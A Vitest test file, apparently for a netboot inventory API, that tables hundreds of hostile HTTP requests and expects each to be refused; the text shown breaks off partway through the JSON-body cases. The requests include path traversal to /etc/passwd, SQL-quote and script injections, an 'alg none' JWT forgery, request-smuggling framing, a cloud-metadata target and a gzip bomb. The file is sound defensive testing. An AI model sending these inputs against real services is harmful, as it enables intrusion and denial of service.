import { randomBytes } from 'node:crypto';
import { gzipSync, deflateSync, brotliCompressSync } from 'node:zlib';
import { uuidv7 } from 'uuidv7';
import { beforeAll, describe, expect, it } from 'vitest';
import { mintLocalToken } from '../emulators/local-issuer';
import { routes, type HttpMethod } from '../shared/routes';
import { aMachine } from './helpers/fixtures';
import { postProfile, profileForm } from './helpers/profiles';
import { request, setEnv, useLocalStack } from './helpers/stack';
import { fieldPart, formType, initrdPart, kernelPart, multipart, boundary, type Part } from './hostile/multipart';
import { snapshotState, type StateSnapshot } from './hostile/state';
import { requestHead, sendOnWire, type HeaderList, type WirePlan, type WireResponse } from './hostile/wire';

/**
 * Hundreds of malformed and hostile requests across every route: each must get a 4xx
 * problem+json answer (never a 5xx, never a hang), and afterwards the bucket and the
 * inventory collections must be exactly as before.
 */

const KiB = 1024;
const MiB = 1024 * KiB;
const MAX_REQUEST_BYTES = 2 * MiB;
const FILE_LIMIT = 64 * KiB;
const TIMEOUT_MS = 10_000;

// A small request cap and file limits keep the over-limit cases fast; a normal upload still fits.
const stack = useLocalStack({ MAX_REQUEST_BYTES: String(MAX_REQUEST_BYTES), KERNEL_MAX_BYTES: String(FILE_LIMIT), INITRD_MAX_BYTES: String(FILE_LIMIT) });

/** What the table's placeholders stand for, known once the state is seeded. */
interface Seed {
  port: number;
  host: string;
  token: string;
  /** A machine with a boot profile. */
  A: string;
  /** A machine without one. */
  B: string;
  /** A's boot profile. */
  P: string;
  /** A UUIDv7 nothing has. */
  U: string;
}

const macA = '52:54:00:ca:fe:01';
const macA2 = '52:54:00:ca:fe:02';
const macB = '52:54:00:be:ef:01';
const kernel = randomBytes(2 * KiB);
const initrd = randomBytes(3 * KiB);

type Target = 'create' | 'replace';
type Expected = number | '4xx';
type Lazy<T> = T | ((s: Seed) => T);

interface HostileCase {
  category: string;
  name: string;
  method: string;
  /** Request target as sent (no normalisation); `{A}`, `{B}`, `{P}`, `{U}` are the seeded ids. */
  path: string;
  /** The target, when it is built from a seeded id rather than containing one. */
  pathOf?: (s: Seed) => string;
  headers?: Lazy<HeaderList>;
  body?: Lazy<string | Buffer>;
  /** Admin paths carry a valid admin token unless `none`. */
  auth?: 'admin' | 'none';
  expect: Expected;
  /** The problem type's slug, when one answer is the right one. */
  slug?: string;
  /** Configuration for this case only. */
  env?: Record<string, string>;
  /** Bytes on the wire instead of the generated request. */
  wire?: (s: Seed) => WirePlan;
  /** Further checks; returns what is wrong. */
  check?: (res: WireResponse, body: Record<string, unknown> | undefined) => string | undefined;
}

const lazy = <T>(value: Lazy<T> | undefined, s: Seed): T | undefined => (typeof value === 'function' ? (value as (s: Seed) => T)(s) : value);
const fill = (template: string, s: Seed): string => template.replaceAll('{A}', s.A).replaceAll('{B}', s.B).replaceAll('{P}', s.P).replaceAll('{U}', s.U);
const json = (value: unknown): string => JSON.stringify(value);
/** 64 MiB of JSON whitespace in 64 KiB of gzip. */
const gzipBomb = gzipSync(Buffer.alloc(64 * MiB, 0x20));
const bearer = (token: string): HeaderList => [['Authorization', `Bearer ${token}`]];

// ---------------------------------------------------------------- the table

const table: HostileCase[] = [];
const add = (category: string, ...cases: Omit<HostileCase, 'category'>[]) => table.push(...cases.map((c) => ({ ...c, category })));

/** Paths of every route with real ids, and the methods each takes. */
const routePaths = (() => {
  const byPath = new Map<string, Set<HttpMethod>>();
  for (const route of routes) {
    const path = route.path.replace('{id}', '{A}').replace('{machine_id}', '{A}').replace('{boot_profile_id}', '{P}');
    const methods = byPath.get(path) ?? new Set<HttpMethod>();
    route.methods.forEach((m) => methods.add(m));
    byPath.set(path, methods);
  }
  return [...byPath].map(([path, methods]) => ({ path, methods: [...methods] }));
})();

const allowIs = (methods: readonly string[]) => (res: WireResponse) =>
  (res.headers.allow ?? '').split(',').map((m) => m.trim()).sort().join(',') === [...methods].sort().join(',') ? undefined : `Allow is "${res.headers.allow}", expected ${methods.join(', ')}`;

// Methods no route takes: every method Node parses that a path does not list, CONNECT, and ones it cannot parse.
for (const { path, methods } of routePaths) {
  for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', 'PURGE', 'M-SEARCH'].filter((m) => !(methods as string[]).includes(m))) {
    add('methods no route takes', { name: `${method} ${path}`, method, path, expect: 405, slug: 'method-not-allowed', check: allowIs(methods) });
  }
  add('methods no route takes', {
    name: `CONNECT ${path}`,
    method: 'CONNECT',
    path,
    expect: 405,
    slug: 'method-not-allowed',
    check: allowIs(methods),
    wire: (s) => ({ head: requestHead('CONNECT', fill(path, s), [['Host', s.host]]) }),
  });
}
add(
  'methods no route takes',
  { name: 'CONNECT to another host (not a proxy)', method: 'CONNECT', path: 'example.com:443', expect: 404, slug: 'not-found', wire: () => ({ head: requestHead('CONNECT', 'example.com:443', [['Host', 'example.com:443']]) }) },
  { name: 'lower-case method', method: 'get', path: '/health/liveness', expect: 400, slug: 'validation-error', wire: (s) => ({ head: requestHead('get', '/health/liveness', [['Host', s.host]]) }) },
  { name: 'unknown method FOO', method: 'FOO', path: '/api/v1/machines', expect: 400, wire: (s) => ({ head: requestHead('FOO', '/api/v1/machines', [['Host', s.host]]) }) },
  { name: 'method with a typo (GETT)', method: 'GETT', path: '/boot.ipxe', expect: 400, wire: (s) => ({ head: requestHead('GETT', `/boot.ipxe?mac=${macA}`, [['Host', s.host]]) }) },
  { name: 'HTTP/2 preface on HTTP/1.1', method: 'PRI', path: '*', expect: 400, wire: () => ({ head: Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n') }) },
);

// Admin requests without a valid administrator's token; the write ones would succeed with one.
const writeBodyA = json({ nics: [{ mac: macA }, { mac: '52:54:00:ca:fe:03' }] });
for (const route of routes.filter((r) => r.audience === 'admin')) {
  for (const method of route.methods) {
    const path = route.path.replace('{id}', '{A}').replace('{machine_id}', '{A}');
    add('admin requests without a valid token', {
      name: `no token: ${method} ${path}`,
      method,
      path,
      auth: 'none',
      ...(method === 'PUT' || method === 'POST' ? { headers: [['Content-Type', 'application/json']] as HeaderList, body: writeBodyA } : {}),
      expect: 401,
      slug: 'unauthorized',
      check: (res) => (res.headers['www-authenticate']?.startsWith('Bearer realm="netboot-admin"') ? undefined : `WWW-Authenticate is ${res.headers['www-authenticate']}`),
    });
  }
}
{
  const now = () => Math.floor(Date.now() / 1000);
  const tokens: [string, (s: Seed) => HeaderList, number][] = [
    ['Basic credentials', () => [['Authorization', 'Basic YWRtaW46YWRtaW4=']], 401],
    ['an empty bearer', () => [['Authorization', 'Bearer ']], 401],
    ['a bearer that is not a JWT', () => [['Authorization', 'Bearer not-a-jwt']], 401],
    ['a three-part garbage JWT', () => [['Authorization', 'Bearer a.b.c']], 401],
    ['alg none', () => [['Authorization', `Bearer ${Buffer.from('{"alg":"none","kid":"netboot-local"}').toString('base64url')}.${mintLocalToken().split('.')[1]}.`]], 401],
    ['an expired token', () => bearer(mintLocalToken({ iat: now() - 7200, exp: now() - 3600 })), 401],
    ['a token for another audience', () => bearer(mintLocalToken({ aud: 'https://other.example' })), 401],
    ['an unverified email', () => bearer(mintLocalToken({ email_verified: false })), 401],
    ['a valid token of a non-administrator', () => bearer(mintLocalToken({ email: 'mallory@example.org' })), 403],
    ['a valid token with trailing junk', (s) => [['Authorization', `Bearer ${s.token} junk`]], 401],
    ['a garbage Authorization before a valid one', (s) => [['Authorization', 'Bearer x.y.z'], ['Authorization', `Bearer ${s.token}`]], 401],
    ['a forged API Gateway identity header', () => [['X-Apigateway-Api-Userinfo', Buffer.from(json({ email: 'admin@netboot.local', email_verified: true })).toString('base64url')]], 401],
    ['a 12 KiB bearer token', () => [['Authorization', `Bearer ${'a'.repeat(6 * KiB)}.${'b'.repeat(6 * KiB)}.c`]], 401],
  ];
  for (const [what, headers, status] of tokens) {
    add(
      'admin requests without a valid token',
      { name: `${what}: PUT /api/v1/machines/{A}`, method: 'PUT', path: '/api/v1/machines/{A}', auth: 'none', headers: (s) => [...headers(s), ['Content-Type', 'application/json']], body: writeBodyA, expect: status },
      { name: `${what}: DELETE /api/v1/boot/{A}/profile`, method: 'DELETE', path: '/api/v1/boot/{A}/profile', auth: 'none', headers, expect: status },
    );
  }
  add('admin requests without a valid token', { name: 'token in the query string only', method: 'DELETE', path: '/api/v1/boot/{A}/profile?access_token=TOKEN', auth: 'none', expect: 401, wire: (s) => ({ head: requestHead('DELETE', `/api/v1/boot/${s.A}/profile?access_token=${s.token}`, [['Host', s.host]]) }) });
}

// Ids: not UUIDv7 (400 naming the parameter), undecodable (404: no route matches), traversal, unknown.
{
  const idRoutes: { method: string; path: (id: string) => string; body?: Lazy<string | Buffer>; type?: string }[] = [
    { method: 'GET', path: (id) => `/api/v1/machines/${id}` },
    { method: 'PUT', path: (id) => `/api/v1/machines/${id}`, body: json(aMachine()), type: 'application/json' },
    { method: 'DELETE', path: (id) => `/api/v1/machines/${id}` },
    { method: 'GET', path: (id) => `/api/v1/boot/${id}/profile` },
    { method: 'PUT', path: (id) => `/api/v1/boot/${id}/profile`, body: multipart([kernelPart(kernel), initrdPart(initrd)]), type: formType() },
    { method: 'DELETE', path: (id) => `/api/v1/boot/${id}/profile` },
    { method: 'GET', path: (id) => `/asset/${id}/kernel` },
    { method: 'GET', path: (id) => `/asset/${id}/initrd` },
  ];
  const notUuidV7: [string, string][] = [
    ['not a UUID', 'not-a-uuid'],
    ['a UUIDv4', '3b241101-e2bb-4255-8caf-4136c566a962'],
    ['the nil UUID', '00000000-0000-0000-0000-000000000000'],
    ['a UUIDv7 with a bad variant', '018c7dbd-c000-7000-c000-fedcba987654'],
    ['A without hyphens', '{A-nohyphen}'],
    ['A in braces', '%7B{A}%7D'],
    ['A with a NUL', '{A}%00'],
    ['A with a trailing space', '{A}%20'],
    ['encoded traversal', '..%2F..%2Fetc%2Fpasswd'],
    ['encoded dot-dot', '%2E%2E'],
    ['encoded backslash traversal', '..%5C..%5Cboot.ini'],
    ['A then an encoded /..', '{A}%2F..'],
    ['double-encoded dot-dot', '%252e%252e'],
    ['a 4000-character id', 'a'.repeat(4000)],
    ['markup', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
    ['a quote injection', "1'%20OR%20'1'%3D'1"],
  ];
  const undecodable: [string, string][] = [
    ['a lone %', '%'],
    ['a truncated escape', '%E0%A4%A'],
    ['overlong UTF-8 dots', '%C0%AE%C0%AE'],
  ];
  const idOf = (template: string) => (s: Seed) => template.replace('{A-nohyphen}', s.A.replaceAll('-', '')).replaceAll('{A}', s.A);
  for (const r of idRoutes) {
    const common = { method: r.method, ...(r.body ? { body: r.body } : {}), ...(r.type ? { headers: [['Content-Type', r.type]] as HeaderList } : {}) };
    for (const [what, id] of notUuidV7) {
      add('ids: not UUIDv7, traversal, unknown', { ...common, name: `${what}: ${r.method} ${r.path('{id}')}`, path: r.path(id), pathOf: (s) => r.path(idOf(id)(s)), expect: 400, slug: 'validation-error' });
    }
    for (const [what, id] of undecodable) {
      add('ids: not UUIDv7, traversal, unknown', { ...common, name: `${what}: ${r.method} ${r.path('{id}')}`, path: r.path(id), expect: 404, slug: 'not-found' });
    }
  }
  const traversal: [string, string][] = [
    ['GET', '/api/v1/machines/../../etc/passwd'],
    ['GET', '/asset/../api/v1/machines'],
    ['DELETE', '/api/v1/boot/{A}/profile/../../../machines/{A}'],
    ['GET', '/boot.ipxe/../api/v1/machines'],
    ['GET', '/./api/v1/machines'],
    ['GET', '//api/v1/machines'],
    ['GET', '/api/v1//machines'],
    ['GET', '/api/v1/machines/'],
    ['DELETE', '/api/v1/machines/{A}/'],
    ['GET', '/api/v1/machines%2F{A}'],
    ['GET', '/API/V1/MACHINES'],
    ['GET', '/api/v1/machines;jsessionid=x'],
    ['GET', '/asset/{P}/kernel/../../../../etc/passwd'],
    ['GET', '/asset/{P}/vmlinuz'],
    ['GET', '/asset/{P}/../{P}/kernel%00'],
    ['GET', '/internal/../health/liveness/..'],
    ['GET', '/health/liveness/../../internal/blobs/sweep'],
  ];
  for (const [method, path] of traversal) add('ids: not UUIDv7, traversal, unknown', { name: `raw path ${method} ${path}`, method, path, expect: 404, slug: 'not-found' });
  add('ids: not UUIDv7, traversal, unknown', { name: 'raw path GET /api/v1/machines/.. (.. is the id)', method: 'GET', path: '/api/v1/machines/..', expect: 400, slug: 'validation-error' });
  // `..` is a {document} of GET /api/v1/boot/{machine_id}/profile/{document}: a route, not a traversal, and it takes no DELETE.
  add('ids: not UUIDv7, traversal, unknown', { name: 'raw path DELETE /api/v1/boot/{A}/profile/.. (.. is the document)', method: 'DELETE', path: '/api/v1/boot/{A}/profile/..', expect: 405, slug: 'method-not-allowed' });

  add(
    'ids: not UUIDv7, traversal, unknown',
    { name: 'GET an unknown machine', method: 'GET', path: '/api/v1/machines/{U}', expect: 404, slug: 'machine-not-found' },
    { name: 'PUT an unknown machine does not create it', method: 'PUT', path: '/api/v1/machines/{U}', headers: [['Content-Type', 'application/json']], body: json({ nics: [{ mac: '52:54:00:ca:fe:09' }] }), expect: 404, slug: 'machine-not-found' },
    { name: 'DELETE an unknown machine', method: 'DELETE', path: '/api/v1/machines/{U}', expect: 404, slug: 'machine-not-found' },
    { name: 'GET a profile id as a machine', method: 'GET', path: '/api/v1/machines/{P}', expect: 404, slug: 'machine-not-found' },
    { name: 'DELETE a machine that has a boot profile', method: 'DELETE', path: '/api/v1/machines/{A}', expect: 409, slug: 'machine-has-boot-profile' },
    { name: 'GET the profile of an unknown machine', method: 'GET', path: '/api/v1/boot/{U}/profile', expect: 404 },
    { name: 'GET the profile of a machine without one', method: 'GET', path: '/api/v1/boot/{B}/profile', expect: 404, slug: 'boot-profile-not-found' },
    { name: 'PUT a profile a machine does not have (nothing stored)', method: 'PUT', path: '/api/v1/boot/{B}/profile', headers: [['Content-Type', formType()]], body: multipart([kernelPart(kernel), initrdPart(initrd)]), expect: 404, slug: 'boot-profile-not-found' },
    { name: 'PUT the profile of an unknown machine', method: 'PUT', path: '/api/v1/boot/{U}/profile', headers: [['Content-Type', formType()]], body: multipart([kernelPart(kernel), initrdPart(initrd)]), expect: 404 },
    { name: 'DELETE a profile a machine does not have', method: 'DELETE', path: '/api/v1/boot/{B}/profile', expect: 404, slug: 'boot-profile-not-found' },
    { name: 'DELETE the profile of an unknown machine', method: 'DELETE', path: '/api/v1/boot/{U}/profile', expect: 404 },
    { name: 'the kernel of an unknown profile', method: 'GET', path: '/asset/{U}/kernel', expect: 404, slug: 'kernel-not-found' },
    { name: 'a machine id as a profile id', method: 'GET', path: '/asset/{A}/initrd', expect: 404, slug: 'initrd-not-found' },
    { name: 'HEAD of an unknown profile', method: 'HEAD', path: '/asset/{U}/kernel', expect: 404 },
  );
}

// Query strings: malformed, repeated, unknown, oversized.
{
  const list: [string, string][] = [
    ['page=0', 'page=0'],
    ['page=-1', 'page=-1'],
    ['page=abc', 'page=abc'],
    ['page=1e3', 'page=1e3'],
    ['page=0x10', 'page=0x10'],
    ['page=1.5', 'page=1.5'],
    ['page with a NUL', 'page=1%00'],
    ['page=100001', 'page=100001'],
    ['page twice', 'page=1&page=2'],
    ['page[]', 'page[]=1'],
    ['per_page=0', 'per_page=0'],
    ['per_page=101', 'per_page=101'],
    ['per_page huge', 'per_page=99999999999999999999'],
    ['per_page empty', 'per_page='],
    ['an unknown parameter', 'limit=10'],
    ['__proto__', '__proto__=1'],
    ['constructor', 'constructor=x&hasOwnProperty=y'],
    ['a malformed escape', 'page=%E0%A4%A'],
    ['1000 unknown parameters', Array.from({ length: 1000 }, (_, i) => `p${i}=1`).join('&')],
    ['a 10 KiB parameter name', `${'n'.repeat(10 * KiB)}=1`],
    ['a 10 KiB mac', `mac=${'a'.repeat(10 * KiB)}`],
  ];
  for (const [what, query] of list) add('query strings', { name: `GET /api/v1/machines?${what}`, method: 'GET', path: `/api/v1/machines?${query}`, expect: 400, slug: 'validation-error' });
  for (const path of ['/api/v1/machines', '/boot.ipxe', '/health/liveness', '/asset/{P}/kernel', '/api/v1/boot/{A}/profile']) {
    add('query strings', { name: `a 20 KiB query string: GET ${path}`, method: 'GET', path: `${path}?q=${'x'.repeat(20 * KiB)}`, expect: 431, slug: 'request-header-fields-too-large' });
  }
  add('query strings', { name: 'a 64 KiB query string of many parameters', method: 'GET', path: `/api/v1/machines?${'a=1&'.repeat(16 * KiB)}`, expect: 431, slug: 'request-header-fields-too-large' });
}

// Header fields: oversized, malformed, conflicting framing, missing Host, unknown expectations.
{
  const big = (name: string, bytes: number): HeaderList => [[name, 'a'.repeat(bytes)]];
  for (const path of ['/api/v1/machines', '/api/v1/profiles', '/boot.ipxe?mac=52:54:00:ca:fe:01', '/asset/{P}/initrd', '/health/startup', '/internal/blobs/sweep']) {
    const method = path === '/api/v1/profiles' || path === '/internal/blobs/sweep' ? 'POST' : 'GET';
    add('header fields', { name: `one 20 KiB header: ${method} ${path}`, method, path, headers: big('X-Big', 20 * KiB), expect: 431, slug: 'request-header-fields-too-large' });
  }
  add(
    'header fields',
    { name: '300 headers of 100 bytes', method: 'GET', path: '/api/v1/machines', headers: Array.from({ length: 300 }, (_, i) => [`X-H${i}`, 'v'.repeat(100)] as [string, string]), expect: 431, slug: 'request-header-fields-too-large' },
    { name: 'a 40 KiB cookie', method: 'GET', path: '/boot.ipxe?mac=52:54:00:ca:fe:01', headers: big('Cookie', 40 * KiB), expect: 431 },
    { name: 'a 20 KiB Authorization', method: 'DELETE', path: '/api/v1/boot/{A}/profile', auth: 'none', headers: [['Authorization', `Bearer ${'a'.repeat(20 * KiB)}`]], expect: 431 },
    { name: 'a 20 KiB request line', method: 'GET', path: `/api/v1/machines/${'a'.repeat(20 * KiB)}`, expect: 431 },
    { name: 'a 1 MiB header', method: 'GET', path: '/health/liveness', headers: big('X-Big', MiB), expect: 431 },
    { name: 'an 8 KiB Content-Type', method: 'POST', path: '/api/v1/machines', headers: [['Content-Type', `application/json; x=${'a'.repeat(8 * KiB)}`]], body: '{', expect: 400, slug: 'invalid-json' },
    { name: 'a hostile X-Request-Id is not echoed', method: 'GET', path: '/api/v1/machines/not-a-uuid', headers: [['X-Request-Id', '../../etc/passwd<script>']], expect: 400, check: (res) => (res.headers['x-request-id']?.includes('<') ? 'X-Request-Id was echoed' : undefined) },
    { name: 'X-HTTP-Method-Override does not turn POST into DELETE', method: 'POST', path: '/api/v1/machines', headers: [['X-HTTP-Method-Override', 'DELETE'], ['Content-Type', 'application/json']], body: '{}', expect: 400, slug: 'validation-error' },
    { name: 'X-Original-URL does not reroute', method: 'GET', path: '/nowhere', headers: [['X-Original-URL', '/health/liveness'], ['X-Rewrite-URL', '/health/liveness']], expect: 404, slug: 'not-found' },
    { name: 'Upgrade: websocket is served as a plain request', method: 'GET', path: '/api/v1/machines/not-a-uuid', headers: [['Connection', 'Upgrade'], ['Upgrade', 'websocket'], ['Sec-WebSocket-Version', '13'], ['Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ==']], expect: 400 },
    { name: 'Upgrade: h2c', method: 'GET', path: '/boot.ipxe?mac=zz', headers: [['Connection', 'Upgrade, HTTP2-Settings'], ['Upgrade', 'h2c'], ['HTTP2-Settings', 'AAMAAABkAARAAAAAAAIAAAAA']], expect: 400, slug: 'invalid-mac-address' },
    { name: 'Expect: an unknown expectation', method: 'GET', path: '/health/liveness', headers: [['Expect', 'teapot']], expect: 417, slug: 'expectation-failed' },
  );
  /** A request written out by hand; method and path are for the case's name and judgement only. */
  const rawHeader = (name: string, head: (s: Seed) => string, expect: Expected = 400) => {
    const [method = '', path = ''] = head({ host: 'host', token: 'token' } as Seed).split(' ');
    add('header fields', { name, method, path, expect, wire: (s) => ({ head: Buffer.from(head(s), 'latin1') }) });
  };
  const auth = (s: Seed) => `Authorization: Bearer ${s.token}\r\n`;
  rawHeader('no Host header (HTTP/1.1)', (s) => `GET /health/liveness HTTP/1.1\r\n${auth(s)}\r\n`);
  rawHeader('a bare CR inside a header value', (s) => `GET /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nX-A: a\rb\r\n\r\n`);
  rawHeader('a bare LF splitting a header (smuggling attempt)', (s) => `GET /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nX-A: a\nContent-Length: 5\r\n\r\n`);
  rawHeader('a NUL in a header value', (s) => `GET /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nX-A: a\x00b\r\n\r\n`);
  rawHeader('a space in a header name', (s) => `GET /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nX A: b\r\n\r\n`);
  rawHeader('a space before the colon', (s) => `GET /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nContent-Length : 0\r\n\r\n`);
  rawHeader('a header line without a colon', (s) => `GET /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nnonsense\r\n\r\n`);
  rawHeader('an obs-fold continuation line', (s) => `GET /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nX-A: a\r\n folded\r\n\r\n`);
  rawHeader('Content-Length and Transfer-Encoding together', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\n${auth(s)}Content-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`);
  rawHeader('two different Content-Lengths', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\n${auth(s)}Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}`);
  rawHeader('Content-Length: -1', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nContent-Length: -1\r\n\r\n`);
  rawHeader('Content-Length: abc', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nContent-Length: abc\r\n\r\n`);
  rawHeader('Content-Length: 1, 2', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nContent-Length: 1, 2\r\n\r\n`);
  // Whether llhttp or the gateway refuses these first differs between Node versions: any 4xx.
  rawHeader('Content-Length past 2^64', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nContent-Length: 99999999999999999999999\r\n\r\n`, '4xx');
  rawHeader('Transfer-Encoding: identity (not chunked, no length)', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nTransfer-Encoding: identity\r\n\r\n{}`);
  rawHeader('Transfer-Encoding: chunked, then another coding', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n`);
  rawHeader('an invalid chunk size mid-body', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\n${auth(s)}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\nzz\r\n`);
  rawHeader('a chunk longer than it said', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\n${auth(s)}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{}\r\n0\r\n\r\n`);
  rawHeader('a 20 KiB chunk extension', (s) => `POST /api/v1/machines HTTP/1.1\r\nHost: ${s.host}\r\n${auth(s)}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;${'x'.repeat(20 * KiB)}\r\n{}\r\n0\r\n\r\n`, 413);
  rawHeader('HTTP/2.0 in an HTTP/1 request line', (s) => `GET /health/liveness HTTP/2.0\r\nHost: ${s.host}\r\n\r\n`);
  rawHeader('HTTP/3.0 in the request line', (s) => `GET /health/liveness HTTP/3.0\r\nHost: ${s.host}\r\n\r\n`);
  rawHeader('no HTTP version (HTTP/0.9)', () => 'GET /health/liveness\r\n\r\n');
  rawHeader('two spaces in the request line (parsed leniently)', (s) => `GET  /api/v1/machines/x HTTP/1.1\r\nHost: ${s.host}\r\nAuthorization: Bearer ${s.token}\r\n\r\n`);
  rawHeader('a raw space in the target', (s) => `GET /api/v1/machines/a b HTTP/1.1\r\nHost: ${s.host}\r\n\r\n`);
  rawHeader('a raw control character in the target', (s) => `GET /boot.ipxe?mac=\x01 HTTP/1.1\r\nHost: ${s.host}\r\n\r\n`);
  rawHeader('raw UTF-8 bytes in the target', (s) => `GET /boot.ipxe?mac=52\xef\xbc\x9a54\xef\xbc\x9a00\xef\xbc\x9aca\xef\xbc\x9afe\xef\xbc\x9a01 HTTP/1.1\r\nHost: ${s.host}\r\n\r\n`, '4xx');
  rawHeader('an absolute-form target for another host', (s) => `GET http://169.254.169.254/computeMetadata/v1/ HTTP/1.1\r\nHost: ${s.host}\r\n\r\n`, 404);
  rawHeader('an asterisk-form target', (s) => `OPTIONS * HTTP/1.1\r\nHost: ${s.host}\r\n\r\n`, 404);
  rawHeader('empty lines, then a request line of spaces', () => '\r\n\r\n   \r\n\r\n');
  rawHeader('binary garbage', () => randomBytes(512).toString('latin1').replace(/^[A-Z]/, '\x00'));
  rawHeader('TLS ClientHello on the plain port', () => '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' + 'a'.repeat(32));
  add('header fields', {
    name: 'Content-Length lies (longer than the body), socket held then ended',
    method: 'POST',
    path: '/api/v1/machines',
    expect: 400,
    wire: (s) => ({ head: requestHead('POST', '/api/v1/machines', [['Host', s.host], ['Authorization', `Bearer ${s.token}`], ['Content-Type', 'application/json'], ['Content-Length', '100']]), body: Buffer.from('{"nics":'), then: [{ pauseMs: 300, end: true }] }),
  });
  add('header fields', {
    name: 'Content-Length lies (shorter than the body): the rest is a bad request',
    method: 'POST',
    path: '/api/v1/machines',
    expect: 400,
    wire: (s) => ({ head: requestHead('POST', '/api/v1/machines', [['Host', s.host], ['Authorization', `Bearer ${s.token}`], ['Content-Type', 'application/json'], ['Content-Length', '3']]), body: Buffer.from(json({ nics: [{ mac: '52:54:00:ca:fe:77' }] })) }),
  });
}

// JSON bodies: invalid, the wrong shape, deeply nested, of the wrong type or coding.
{
  const invalid: [string, string | Buffer][] = [
    ['an unterminated object', '{'],
    ['an unterminated array', '{"nics": ['],
    ['a stray brace', '}'],
    ['a truncated literal', 'nul'],
    ['undefined', 'undefined'],
    ['single quotes', "{'nics': []}"],
    ['a trailing comma', '{"nics": [],}'],
    ['unquoted keys', '{nics: []}'],
    ['NaN', '{"nics": NaN}'],
    ['a comment', '{"nics": [] /* x */}'],
    ['two documents', '{"nics": []}{"nics": []}'],
    ['trailing garbage', `${json({ nics: [{ mac: '52:54:00:ca:fe:10' }] })} x`],
    ['a top-level string (strict mode)', '"nics"'],
    ['a top-level number', '1'],
    ['top-level null', 'null'],
    ['a NUL byte', '\u0000'],
    ['random bytes', randomBytes(256)],
    ['UTF-16 bytes declared UTF-8', Buffer.from(json({ nics: [] }), 'utf16le')],
    ['an unbalanced 500k-deep array', '['.repeat(500_000)],
    ['a BOM before garbage', '\ufeff{nics}'],
  ];
  const shape: [string, unknown][] = [
    ['an array', []],
    ['an empty object', {}],
    ['nics null', { nics: null }],
    ['nics a string', { nics: macA }],
    ['a NIC without mac', { nics: [{}] }],
    ['a numeric mac', { nics: [{ mac: 525400123456 }] }],
    ['a null NIC', { nics: [null] }],
    ['a NIC that is an array', { nics: [[macA]] }],
    ['an unknown NIC member', { nics: [{ mac: '52:54:00:ca:fe:11', vlan: 3 }] }],
    ['65 NICs', { nics: Array.from({ length: 65 }, (_, i) => ({ mac: `52:54:00:aa:00:${i.toString(16).padStart(2, '0')}` })) }],
    ['10,000 NICs', { nics: Array.from({ length: 10_000 }, () => ({ mac: '52:54:00:ca:fe:12' })) }],
    ['cpus an object', { nics: [{ mac: '52:54:00:ca:fe:13' }], cpus: {} }],
    ['cores 0', { nics: [{ mac: '52:54:00:ca:fe:14' }], cpus: [{ manufacturer: 'Intel', clock_frequency: 1, cores: 0 }] }],
    ['cores as a string', { nics: [{ mac: '52:54:00:ca:fe:15' }], cpus: [{ manufacturer: 'Intel', clock_frequency: 1, cores: '8' }] }],
    ['a negative size', { nics: [{ mac: '52:54:00:ca:fe:16' }], memory_modules: [{ size: -1 }] }],
    ['a capacity past 2^53', { nics: [{ mac: '52:54:00:ca:fe:17' }], drives: [{ capacity: 2 ** 60 }] }],
    ['a boolean capacity', { nics: [{ mac: '52:54:00:ca:fe:18' }], drives: [{ capacity: true }] }],
    ['a blank manufacturer', { nics: [{ mac: '52:54:00:ca:fe:19' }], accelerators: [{ manufacturer: '   ' }] }],
    ['a 1 MiB manufacturer', { nics: [{ mac: '52:54:00:ca:fe:1a' }], accelerators: [{ manufacturer: 'x'.repeat(MiB) }] }],
    ['100,000 CPUs', { nics: [{ mac: '52:54:00:ca:fe:1b' }], cpus: Array.from({ length: 100_000 }, () => 0) }],
    ['__proto__ member', JSON.parse('{"__proto__": {"admin": true}, "nics": [{"mac": "52:54:00:ca:fe:1c"}]}')],
    ['constructor.prototype member', { constructor: { prototype: { admin: true } }, nics: [{ mac: '52:54:00:ca:fe:1d' }] }],
    ['an id member', { id: '{A}', nics: [{ mac: '52:54:00:ca:fe:1e' }] }],
    ['a boot_profile_id member', { boot_profile_id: '{P}', nics: [{ mac: '52:54:00:ca:fe:1f' }] }],
  ];
  const deep: [string, string][] = [
    ['a 100k-deep array', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
    ['a 50k-deep object', `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`],
    ['a 50k-deep object as a MAC', `{"nics":[{"mac":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}]}`],
    ['a 100k-deep array in cpus', `{"nics":[{"mac":"52:54:00:ca:fe:20"}],"cpus":${'['.repeat(100_000)}${']'.repeat(100_000)}}`],
  ];
  const targets: [string, string][] = [
    ['POST', '/api/v1/machines'],
    ['PUT', '/api/v1/machines/{A}'],
  ];
